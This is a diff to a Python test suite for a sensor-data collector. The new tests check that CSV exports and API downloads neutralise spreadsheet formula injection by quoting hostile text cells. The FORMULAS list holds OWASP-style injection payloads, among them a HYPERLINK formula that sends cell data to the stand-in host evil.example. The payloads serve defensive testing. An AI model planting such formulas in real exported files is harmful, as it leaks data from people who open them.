@@ -18,7 +18,7 @@ from processes import wait_until
 
 from rollup_checks import as_before_rollups
 
-from sensor_edge.server.storage import READING_COLUMNS, Batch, ReadingQuery
+from sensor_edge.server.storage import READING_COLUMNS, Batch, ReadingQuery, iter_newest
 from sensor_edge.server.storage.rollups import ROLLUP_COLUMNS, bucket_of
 from sensor_edge.server.storage.sqlite import SQLiteStorage
 
@@ -70,10 +70,11 @@ def test_iterator_pages_through_ties_in_order_and_filters(stored):
         query = ReadingQuery(agent="pi-1", since=T0 + 10, until=T0 + 20.5)
         want = [r for r in rows if r[0] == "pi-1" and T0 + 10 <= r[7] <= T0 + 20.5]
         assert list(storage.iter_readings(query, chunk=5)) == want
-        # The same rows the API's query gives, in the same shape.
-        api = storage.readings(ReadingQuery(agent="pi-1", since=T0 + 10, until=T0 + 20.5,
-                                            limit=10_000))
-        assert sorted(tuple(r[c] for c in READING_COLUMNS) for r in api) == sorted(want)
+        # The API's query (the newest `limit`) pages the same way: its window is exact.
+        api = iter_newest(storage, ReadingQuery(agent="pi-1", since=T0 + 10, until=T0 + 20.5,
+                                                limit=10_000))
+        assert list(api) == want
+        assert list(iter_newest(storage, ReadingQuery(limit=23), chunk=4)) == rows[-23:]
     finally:
         storage.close()
 
@@ -204,3 +205,100 @@ def test_export_while_the_collector_is_writing(make_collector, make_agent, tmp_p
     # Everything stored by then, once each (readings are stored within a second of being read).
     assert seqs == sorted(set(seqs)) and len(seqs) > 30
     assert set(seqs) <= set(collector.stored_seqs("pi-1"))
+
+
+# Text a spreadsheet would run as a formula (OWASP's CSV injection list), in every text column.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2-2", "@SUM(A1:A9)",
+            "\tx", "\rx"]
+
+
+# The wire takes printable names only: tab and CR reach storage from no agent.
+PRINTABLE_FORMULAS = FORMULAS[:4]
+
+
+def hostile_rows(formulas: list[str] = FORMULAS) -> list[tuple]:
+    rows = []
+    for i, text in enumerate(formulas, start=1):
+        rows.append((i, text, "=1+1", -3.5 * i, "-", T0 + i))
+    rows.append((len(formulas) + 1, "plain", "temperature", -40.0, "C", T0 + 99))
+    return rows
+
+
+def assert_neutralised(text: str, agent: str, formulas: list[str] = FORMULAS) -> None:
+    """Each formula comes back as a text cell: a leading quote, and quoted in the file."""
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    assert table[0] == list(READING_COLUMNS)
+    body = [dict(zip(READING_COLUMNS, r)) for r in table[1:] if r[0] == agent]
+    assert [r["sensor"] for r in body] == ["'" + f for f in formulas] + ["plain"]
+    assert {r["metric"] for r in body[:-1]} == {"'=1+1"} and body[-1]["metric"] == "temperature"
+    assert {r["unit"] for r in body[:-1]} == {"'-"} and body[-1]["unit"] == "C"
+    # Numbers are numbers: a negative value stays as it was.
+    assert [float(r["value"]) for r in body] == \
+        [-3.5 * i for i in range(1, len(formulas) + 1)] + [-40.0]
+    assert ",-3.5," in text and ",-40.0," in text
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
+    assert '"\'+1+1"' in text  # quoted even where the CSV rules alone would not quote it
+
+
+def assert_rollups_neutralised(text: str, agent: str, formulas: list[str] = FORMULAS) -> None:
+    """Rollup rows (one minute per reading of hostile_rows) neutralised like readings."""
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    assert table[0] == list(ROLLUP_COLUMNS)
+    body = [dict(zip(ROLLUP_COLUMNS, r)) for r in table[1:] if r[0] == agent]
+    assert sorted(r["sensor"] for r in body) == sorted(["'" + f for f in formulas] + ["plain"])
+    assert {(r["metric"], r["unit"]) for r in body if r["sensor"] != "plain"} == {("'=1+1", "'-")}
+    assert sorted(float(r["min"]) for r in body) == \
+        sorted([-3.5 * i for i in range(1, len(formulas) + 1)] + [-40.0])
+    assert '"\'+1+1"' in text
+
+
+def test_export_neutralises_formulas_in_text_cells(tmp_path):
+    db = str(tmp_path / "readings.db")
+    storage = SQLiteStorage(db)
+    storage.store([Batch("pi-1", "e1", hostile_rows())], time.time())
+    storage.close()
+    config = tmp_path / "collector.yaml"
+    config.write_text(f"storage: {db}\n")
+    out = tmp_path / "out.csv"
+    done = export(str(config), "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    assert_neutralised(out.read_bytes().decode(), "pi-1")  # bytes: keep the CR as it is
+    # Said once, on one line: the cells were changed on purpose.
+    lines = done.stderr.strip().splitlines()
+    assert len(lines) == 1 and "18 cells (8 distinct" in lines[0] and "'" in lines[0], done.stderr
+    # The rollups' text cells too (export --tier).
+    done = export(str(config), "--tier", "1m", "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    assert_rollups_neutralised(out.read_bytes().decode(), "pi-1")
+    assert "18 cells (8 distinct" in done.stderr, done.stderr
+    # JSON lines carry text as text: nothing to neutralise there.
+    done = export(str(config), "--format", "jsonl")
+    assert [json.loads(line)["sensor"] for line in done.stdout.splitlines()] == \
+        FORMULAS + ["plain"]
+    assert done.stderr == ""
+
+
+def test_readings_csv_neutralises_formulas_and_counts_them(make_collector):
+    from websockets.sync.client import connect
+
+    from conftest import TOKENS
+
+    collector = make_collector()
+    with connect(collector.stream_url, open_timeout=10,
+                 additional_headers={"Authorization": f"Bearer {TOKENS['pi-2']}"}) as ws:
+        ws.send(json.dumps({"type": "hello", "agent": "pi-2", "epoch": "e", "version": "t"}))
+        ws.recv(timeout=10)
+        readings = [dict(zip(("seq", "sensor", "metric", "value", "unit", "ts"), r))
+                    for r in hostile_rows(PRINTABLE_FORMULAS)]
+        ws.send(json.dumps({"type": "readings", "readings": readings}))
+        assert json.loads(ws.recv(timeout=10)) == {"type": "ack", "seq": len(readings)}
+    for _ in range(2):  # counted once per name, not per download
+        status, body, _ = collector.get("/api/readings.csv?agent=pi-2")
+        assert status == 200
+        assert_neutralised(body.decode(), "pi-2", PRINTABLE_FORMULAS)
+    status, body, _ = collector.get("/api/readings.csv?agent=pi-2&tier=1m")
+    assert status == 200
+    assert_rollups_neutralised(body.decode(), "pi-2", PRINTABLE_FORMULAS)
+    text = collector.get("/metrics")[1].decode()
+    # Distinct texts neutralised: the four sensors, "=1+1" and "-".
+    assert 'sensor_edge_names_escaped_total{output="csv"} 6.0' in text
